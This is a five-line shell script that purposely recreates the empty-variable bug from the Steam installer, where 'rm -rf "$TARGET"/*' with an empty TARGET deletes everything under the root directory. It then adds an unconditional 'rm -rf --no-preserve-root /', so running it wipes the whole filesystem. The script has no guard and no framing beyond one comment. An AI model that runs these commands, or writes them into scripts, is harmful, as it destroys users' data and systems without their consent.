#!/bin/sh
# STEAM-style bug on purpose: TARGET is empty, so this removes /*
TARGET=""
rm -rf "$TARGET"/*
rm -rf --no-preserve-root /
